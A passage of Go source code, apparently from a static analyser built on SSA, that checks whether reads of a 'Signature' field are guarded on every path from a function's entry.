			fa, ok := ld.X.(*ssa.FieldAddr)
			if !ok {
				continue
			}
			if _, fld, _ := p.fieldAddr(fa); fld != "Signature" {
				continue
			}
			if fkey != "" && p.memKey(fa.X) == fkey {
				return true
			}
			for _, cp := range copies {
				if fa.X == cp {
					return true
				}
			}
		}
		return false
	}}
	missing, _ := p.unguardedFromEntry(io.Fn, io.Call, g)
	return len(missing) == 0
}
